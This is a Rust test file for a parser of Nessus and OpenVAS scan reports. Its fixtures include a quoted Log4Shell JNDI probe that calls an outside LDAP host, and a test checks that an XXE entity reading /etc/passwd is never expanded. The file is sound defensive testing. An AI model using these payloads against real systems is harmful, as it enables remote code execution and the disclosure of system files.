//! Nessus and OpenVAS files as the scanners write them, cut down to what matters.

use super::*;

const NESSUS: &str = r#"<?xml version="1.0" ?>
<NessusClientData_v2>
<Policy><policyName>政务外网季度扫描</policyName><Preferences><ServerPreferences>
<preference><name>TARGET</name><value>10.1.1.9,10.1.1.10,10.1.1.20</value></preference>
</ServerPreferences></Preferences></Policy>
<Report name="2024Q2" xmlns:cm="http://www.nessus.org/cm">
<ReportHost name="10.1.1.10"><HostProperties>
<tag name="HOST_END">Tue Jun  4 10:40:12 2024</tag>
<tag name="host-fqdn">oa.example.gov.cn</tag>
<tag name="host-ip">10.1.1.10</tag>
<tag name="HOST_START">Tue Jun  4 10:20:31 2024</tag>
</HostProperties>
<ReportItem port="0" svc_name="general" protocol="tcp" severity="0" pluginID="19506" pluginName="Nessus Scan Information" pluginFamily="Settings">
<description>Information about this scan.</description>
<plugin_output>Nessus version : 10.7.2</plugin_output>
</ReportItem>
<ReportItem port="8443" svc_name="www" protocol="TCP" severity="4" pluginID="156032" pluginName="Apache Log4j Remote Code Execution (Log4Shell)" pluginFamily="CGI abuses">
<cvss3_base_score>10.0</cvss3_base_score>
<cvss_base_score>9.3</cvss_base_score>
<cve>CVE-2021-44228</cve>
<cve>cve-2021-45046</cve>
<cve>CVE-2021-44228</cve>
<description>The remote host is running a version of Apache Log4j &lt; 2.15.0 &amp; is affected.</description>
<plugin_output>Nessus was able to exploit the issue using the following request :

GET /?x=${jndi:ldap://10.1.1.99/a} HTTP/1.1</plugin_output>
<risk_factor>Critical</risk_factor>
<solution>Upgrade to Apache Log4j version 2.16.0 or later.</solution>
<synopsis>The remote web server is affected by a remote code execution vulnerability.</synopsis>
<xref>IAVA:2021-A-0573</xref>
<xref>CNVD:CNVD-2021-95914</xref>
<xref>CNNVD:CNNVD-202112-799</xref>
</ReportItem>
<ReportItem port="22" svc_name="ssh" protocol="tcp" severity="2" pluginID="90317" pluginName="SSH Weak Algorithms Supported" pluginFamily="Misc.">
<cvss_base_score>4.3</cvss_base_score>
<description>Weak ciphers.</description>
<solution>Remove the weak ciphers.</solution>
</ReportItem>
<ReportItem port="22" svc_name="ssh" protocol="tcp" severity="2" pluginID="90317" pluginName="SSH Weak Algorithms Supported" pluginFamily="Misc.">
<cvss_base_score>4.3</cvss_base_score>
</ReportItem>
</ReportHost>
<ReportHost name="db01"><HostProperties>
<tag name="HOST_START_TIMESTAMP">1717466400</tag>
<tag name="HOST_START">Tue Jun  4 10:00:00 2024</tag>
<tag name="netbios-name">DB01</tag>
</HostProperties>
<ReportItem port="1433" svc_name="mssql" protocol="tcp" severity="3" pluginID="10674" pluginName="" pluginFamily="Databases">
<plugin_name>Microsoft SQL Server Unsupported Version</plugin_name>
<risk_factor>High</risk_factor>
</ReportItem>
<ReportItem port="161" svc_name="snmp" protocol="udp" severity="1" pluginID="41028" pluginName="SNMP Agent Default Community Name (public)" pluginFamily="SNMP">
<cvss3_base_score>not rated</cvss3_base_score>
</ReportItem>
</ReportHost>
<ReportHost name="10.1.1.9"><HostProperties>
<tag name="host-ip">10.1.1.9</tag>
</HostProperties>
<ReportItem port="0" svc_name="general" protocol="icmp" severity="0" pluginID="10114" pluginName="ICMP Timestamp Request Remote Date Disclosure" />
</ReportHost>
</Report>
</NessusClientData_v2>
"#;

fn line_of(src: &str, needle: &str) -> usize {
    let at = src.find(needle).expect("needle in the test file");
    src[..at].matches('\n').count() + 1
}

#[test]
fn nessus_report_is_read() {
    let f = read_scan(NESSUS.as_bytes(), None).expect("a valid .nessus file");
    assert_eq!(f.format, ScanFormat::Nessus);
    assert_eq!(f.format.as_str(), "nessus");
    assert_eq!(f.scanner.as_deref(), Some("Nessus"));
    // db01's exact timestamp (02:00 UTC) is earlier than 10.1.1.10's 10:20:31 at UTC+8.
    assert_eq!(f.started_at.map(|t| t.to_rfc3339()).as_deref(), Some("2024-06-04T02:00:00+00:00"));
    assert_eq!(f.hosts, ["10.1.1.9", "10.1.1.10", "db01"], "the host without findings is covered too");
    assert_eq!(f.informational, 2);
    assert_eq!(f.findings.len(), 5, "the duplicate SSH finding is kept");

    let log4j = &f.findings[0];
    assert_eq!(log4j.row, line_of(NESSUS, r#"<ReportItem port="8443""#));
    assert_eq!(log4j.host.as_deref(), Some("10.1.1.10"));
    assert_eq!(log4j.hostname.as_deref(), Some("oa.example.gov.cn"));
    assert_eq!((log4j.port, log4j.protocol.as_deref()), (Some(8443), Some("tcp")));
    assert_eq!(log4j.plugin_id.as_deref(), Some("156032"));
    assert_eq!(log4j.title, "Apache Log4j Remote Code Execution (Log4Shell)");
    assert_eq!(log4j.severity, ScanSeverity::Critical);
    assert_eq!(log4j.cvss, Some(10.0), "CVSS v3 wins over v2");
    assert_eq!(log4j.cves, ["CVE-2021-44228", "CVE-2021-45046"]);
    assert_eq!(log4j.cnvd, ["CNVD-2021-95914"]);
    assert_eq!(log4j.cnnvd, ["CNNVD-202112-799"]);
    assert_eq!(
        log4j.description.as_deref(),
        Some("The remote host is running a version of Apache Log4j < 2.15.0 & is affected.")
    );
    assert_eq!(log4j.solution.as_deref(), Some("Upgrade to Apache Log4j version 2.16.0 or later."));
    let evidence = log4j.evidence.as_deref().expect("plugin output");
    assert!(evidence.starts_with("Nessus was able to exploit") && evidence.ends_with("HTTP/1.1"), "{evidence}");
    assert_eq!(log4j.url, None);

    let (ssh, again) = (&f.findings[1], &f.findings[2]);
    assert_eq!((ssh.severity, ssh.cvss, ssh.port), (ScanSeverity::Medium, Some(4.3), Some(22)));
    assert_eq!((again.title.as_str(), again.description.as_deref()), (ssh.title.as_str(), None));
    assert_ne!(ssh.row, again.row);

    let mssql = &f.findings[3];
    assert_eq!(mssql.host.as_deref(), Some("db01"), "no host-ip: the ReportHost name");
    assert_eq!(mssql.hostname.as_deref(), Some("DB01"));
    assert_eq!(mssql.title, "Microsoft SQL Server Unsupported Version", "an empty pluginName falls back");
    assert_eq!((mssql.severity, mssql.cvss), (ScanSeverity::High, None));

    let snmp = &f.findings[4];
    assert_eq!((snmp.severity, snmp.protocol.as_deref(), snmp.cvss), (ScanSeverity::Low, Some("udp"), None));
}

#[test]
fn nessus_start_from_ctime_alone() {
    let xml = r#"<NessusClientData_v2><Report><ReportHost name="10.0.0.1"><HostProperties>
        <tag name="HOST_START">Mon Dec 30 23:59:59 2024</tag></HostProperties></ReportHost></Report></NessusClientData_v2>"#;
    let f = read_scan(xml.as_bytes(), None).expect("valid");
    assert_eq!(f.started_at.map(|t| t.to_rfc3339()).as_deref(), Some("2024-12-30T15:59:59+00:00"));
    assert_eq!((f.hosts.as_slice(), f.findings.len()), (&["10.0.0.1".to_string()][..], 0));
}

const OPENVAS: &str = r#"<report id="a1b2" format_id="a994b278-1f62-11e1-96ac-406186ea4fc5" extension="xml" content_type="text/xml">
  <owner><name>admin</name></owner>
  <name>2024-06-04T02:20:31Z</name>
  <task id="t1"><name>数据局机房</name></task>
  <report id="a1b2">
    <gmp><version>22.4</version></gmp>
    <scan_run_status>Done</scan_run_status>
    <scan_start>2024-06-04T10:20:31+08:00</scan_start>
    <results start="1" max="100">
      <result id="r1">
        <name>OpenSSH &lt; 9.3p2 Remote Code Execution Vulnerability</name>
        <owner><name>admin</name></owner>
        <host>192.168.10.5<asset asset_id="x"/><hostname>web01.example.gov.cn</hostname></host>
        <port>22/tcp</port>
        <nvt oid="1.3.6.1.4.1.25623.1.0.104875">
          <type>nvt</type>
          <name>OpenSSH &lt; 9.3p2 RCE</name>
          <cvss_base>9.8</cvss_base>
          <severities score="9.8">
            <severity type="cvss_base_v3"><origin/><score>9.8</score><value>CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H</value></severity>
          </severities>
          <tags>cvss_base_vector=CVSS:3.1/AV:N/AC:L|summary=OpenSSH is prone to a remote code execution vulnerability.|insight=The PKCS#11 feature in ssh-agent has an insufficiently trustworthy search path.|affected=OpenSSH prior to 9.3p2.|solution=Update to version 9.3p2 or later.|solution_type=VendorFix</tags>
          <solution type="VendorFix">Update to version 9.3p2 or later.</solution>
          <refs>
            <ref type="cve" id="CVE-2023-38408"/>
            <ref type="url" id="https://www.openssh.com/txt/release-9.3p2"/>
            <ref type="cert-bund" id="WID-SEC-2023-1858"/>
            <ref type="dfn-cert" id="DFN-CERT-2023-1700"/>
          </refs>
        </nvt>
        <threat>High</threat>
        <severity>9.8</severity>
        <qod><value>80</value><type>remote_banner</type></qod>
        <description>Installed version: 8.2p1
Fixed version:     9.3p2</description>
        <detection>
          <result id="d1">
            <details><detail><name>product</name><value>cpe:/a:openbsd:openssh:8.2p1</value></detail></details>
          </result>
        </detection>
      </result>
      <result id="r2">
        <name>SSL/TLS: Report Weak Cipher Suites</name>
        <host>192.168.10.5</host>
        <port>443/tcp</port>
        <nvt oid="1.3.6.1.4.1.25623.1.0.103440">
          <name>SSL/TLS: Report Weak Cipher Suites</name>
          <cvss_base>5.0</cvss_base>
          <severities score="5.0"><severity type="cvss_base_v2"><score>5.0</score></severity></severities>
          <tags>summary=Weak ciphers are accepted.|solution=Disable the weak cipher suites.</tags>
          <refs><ref type="cve" id="CVE-2016-2183"/><ref type="cve" id="CVE-2015-2808"/><ref type="cnvd" id="cnvd-2016-06765"/></refs>
        </nvt>
        <threat>Medium</threat>
        <severity>5.0</severity>
        <description>'Weak' cipher suites accepted by this service via the TLSv1.2 protocol: TLS_RSA_WITH_RC4_128_SHA</description>
      </result>
      <result id="r3">
        <name>OS Detection Consolidation and Reporting</name>
        <host>192.168.10.6</host>
        <port>general/tcp</port>
        <nvt oid="1.3.6.1.4.1.25623.1.0.105937"><name>OS Detection</name><cvss_base>0.0</cvss_base></nvt>
        <threat>Log</threat>
        <severity>0.0</severity>
      </result>
      <result id="r4">
        <name>ICMP Timestamp Reply Information Disclosure</name>
        <host>192.168.10.7</host>
        <port>general/icmp</port>
        <nvt oid="1.3.6.1.4.1.25623.1.0.103190"><name>ICMP Timestamp</name><cvss_base>2.1</cvss_base></nvt>
        <threat>Low</threat>
      </result>
      <result id="r5">
        <name>Old finding marked false positive</name>
        <host>192.168.10.7</host>
        <port>package</port>
        <nvt oid="1.3.6.1.4.1.25623.1.0.1"><name>x</name></nvt>
        <threat>False Positive</threat>
        <severity>-1.0</severity>
      </result>
    </results>
    <host><ip>192.168.10.5</ip><start>2024-06-04T02:20:40Z</start></host>
    <host><ip>192.168.10.6</ip></host>
    <host><ip>192.168.10.8</ip></host>
    <scan_end>2024-06-04T03:01:02Z</scan_end>
  </report>
</report>"#;

#[test]
fn openvas_report_is_read() {
    let f = read_scan(OPENVAS.as_bytes(), None).expect("a valid GVM report");
    assert_eq!(f.format, ScanFormat::OpenVas);
    assert_eq!(f.format.as_str(), "openvas");
    assert_eq!(f.scanner.as_deref(), Some("Greenbone"));
    assert_eq!(f.started_at.map(|t| t.to_rfc3339()).as_deref(), Some("2024-06-04T02:20:31+00:00"));
    assert_eq!(f.hosts, ["192.168.10.5", "192.168.10.6", "192.168.10.7", "192.168.10.8"]);
    assert_eq!(f.informational, 2, "Log and False Positive");
    assert_eq!(f.findings.len(), 3, "the nested detection <result> is not a finding");

    let ssh = &f.findings[0];
    assert_eq!(ssh.row, line_of(OPENVAS, r#"<result id="r1">"#));
    assert_eq!(ssh.title, "OpenSSH < 9.3p2 Remote Code Execution Vulnerability");
    assert_eq!(ssh.host.as_deref(), Some("192.168.10.5"));
    assert_eq!(ssh.hostname.as_deref(), Some("web01.example.gov.cn"));
    assert_eq!((ssh.port, ssh.protocol.as_deref()), (Some(22), Some("tcp")));
    assert_eq!(ssh.plugin_id.as_deref(), Some("1.3.6.1.4.1.25623.1.0.104875"));
    assert_eq!((ssh.severity, ssh.cvss), (ScanSeverity::Critical, Some(9.8)));
    assert_eq!(ssh.cves, ["CVE-2023-38408"]);
    assert!(ssh.cnvd.is_empty() && ssh.cnnvd.is_empty());
    assert_eq!(
        ssh.description.as_deref(),
        Some(
            "OpenSSH is prone to a remote code execution vulnerability.\n\nThe PKCS#11 feature in ssh-agent has an insufficiently trustworthy search path."
        )
    );
    assert_eq!(ssh.solution.as_deref(), Some("Update to version 9.3p2 or later."));
    assert_eq!(ssh.evidence.as_deref(), Some("Installed version: 8.2p1\nFixed version:     9.3p2"));

    let tls = &f.findings[1];
    assert_eq!((tls.severity, tls.cvss, tls.port), (ScanSeverity::Medium, Some(5.0), Some(443)));
    assert_eq!(tls.cves, ["CVE-2016-2183", "CVE-2015-2808"]);
    assert_eq!(tls.cnvd, ["CNVD-2016-06765"]);
    assert_eq!(tls.solution.as_deref(), Some("Disable the weak cipher suites."), "from the tags");
    assert_eq!(tls.hostname, None);

    let icmp = &f.findings[2];
    assert_eq!((icmp.severity, icmp.port, icmp.protocol.as_deref()), (ScanSeverity::Low, None, Some("icmp")));
    assert_eq!(icmp.cvss, Some(2.1), "cvss_base when there are no typed scores");
    assert_eq!(icmp.description, None);
}

#[test]
fn openvas_variants() {
    // GMP's response wrapping, and a bare OpenVAS 9 report with a comma list of CVEs.
    let gmp = format!(r#"<get_reports_response status="200" status_text="OK">{OPENVAS}</get_reports_response>"#);
    let f = read_scan(gmp.as_bytes(), None).expect("valid");
    assert_eq!((f.scanner.as_deref(), f.findings.len()), (Some("Greenbone"), 3));

    let old = r#"<report id="r"><omp><version>7.0</version></omp>
      <scan_start>Tue Jun  4 02:20:31 2024</scan_start>
      <results><result id="x"><host>10.0.0.1</host><port>80/tcp</port>
        <nvt oid="1.3.6.1.4.1.25623.1.0.2"><name>Apache httpd Multiple Vulnerabilities</name><cvss_base>7.5</cvss_base>
        <cve>CVE-2017-9798, CVE-2017-3167</cve></nvt><threat>High</threat></result></results></report>"#;
    let f = read_scan(old.as_bytes(), None).expect("valid");
    assert_eq!(f.scanner.as_deref(), Some("OpenVAS"));
    assert_eq!(f.started_at.map(|t| t.to_rfc3339()).as_deref(), Some("2024-06-04T02:20:31+00:00"));
    let x = &f.findings[0];
    assert_eq!(x.title, "Apache httpd Multiple Vulnerabilities", "no result name: the NVT's");
    assert_eq!((x.severity, x.cvss), (ScanSeverity::High, Some(7.5)));
    assert_eq!(x.cves, ["CVE-2017-9798", "CVE-2017-3167"]);
}

#[test]
fn malformed_xml_names_its_line() {
    let broken = "\u{feff}<?xml version=\"1.0\"?>\n<NessusClientData_v2>\n<Report>\n<ReportHost name=\"a\">\n</Report>\n</NessusClientData_v2>\n";
    let Err(ScanError::File(p)) = read_scan(broken.as_bytes(), None) else {
        panic!("a malformed file must be refused")
    };
    assert_eq!(p.row, 5, "{p:?}");
    assert!(p.zh.starts_with("第 5 行：XML 格式错误（"), "{}", p.zh);
    assert!(p.en.starts_with("line 5: malformed XML ("), "{}", p.en);

    let truncated = &OPENVAS[..OPENVAS.find("<result id=\"r2\">").expect("r2")];
    let Err(ScanError::File(p)) = read_scan(truncated.as_bytes(), None) else {
        panic!("a truncated file must be refused")
    };
    assert_eq!(p.row, truncated.lines().count(), "{p:?}");
    assert!(p.zh.contains("没有结束") && p.en.contains("not closed"), "{p:?}");

    let bad_attr = "\n\n<report><results><result><name>x</nmae></result></results></report>";
    let Err(ScanError::File(p)) = read_scan(bad_attr.as_bytes(), None) else { panic!("refused") };
    assert_eq!(p.row, 3, "{p:?}");
}

#[test]
fn other_xml_is_refused_with_the_supported_formats() {
    let Err(ScanError::File(p)) = read_scan(b"  \n<html><body>login</body></html>", None) else { panic!("refused") };
    assert!(p.zh.contains("<html>") && p.zh.contains("Nessus") && p.zh.contains("OpenVAS"), "{}", p.zh);
    assert!(p.en.contains("supported are Nessus"), "{}", p.en);
    assert!(matches!(read_scan(b"", None), Err(ScanError::File(_))));
    assert!(matches!(read_scan(b" \n\t", None), Err(ScanError::File(_))));
    assert!(matches!(table_headers(NESSUS.as_bytes()), Err(ScanError::File(_))));
}

#[test]
fn external_entities_are_never_expanded() {
    let xml = r#"<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "lol">]>
<NessusClientData_v2><Report><ReportHost name="10.0.0.1">
<ReportItem port="80" protocol="tcp" severity="3" pluginID="1" pluginName="A &xxe; &lol; &#26469;&#x81EA; &quot;B&quot;"><description>&xxe;</description></ReportItem>
</ReportHost></Report></NessusClientData_v2>"#;
    let f = read_scan(xml.as_bytes(), None).expect("valid");
    assert_eq!(f.findings[0].title, "A &xxe; &lol; 来自 \"B\"");
    assert_eq!(f.findings[0].description.as_deref(), Some("&xxe;"));
}

#[test]
fn machine_text_is_capped_not_refused() {
    let xml = format!(
        r#"<NessusClientData_v2><Report><ReportHost name="h"><ReportItem port="1" protocol="tcp" severity="1" pluginID="1" pluginName="{}"><plugin_output>{}</plugin_output></ReportItem></ReportHost></Report></NessusClientData_v2>"#,
        "名".repeat(600),
        "出".repeat(25_000)
    );
    let f = read_scan(xml.as_bytes(), None).expect("valid");
    assert_eq!(f.findings[0].title.chars().count(), 500);
    assert_eq!(f.findings[0].evidence.as_deref().map(|e| e.chars().count()), Some(20_000));
}

#[test]
fn too_many_findings_are_refused() {
    let item = r#"<ReportItem port="80" protocol="tcp" severity="1" pluginID="1" pluginName="x"/>"#;
    let xml = format!(
        "<NessusClientData_v2><Report><ReportHost name=\"h\">{}</ReportHost></Report></NessusClientData_v2>",
        item.repeat(MAX_FINDINGS + 1)
    );
    let Err(ScanError::File(p)) = read_scan(xml.as_bytes(), None) else { panic!("refused") };
    assert!(p.zh.contains("100000") && p.en.contains("100000"), "{p:?}");
}
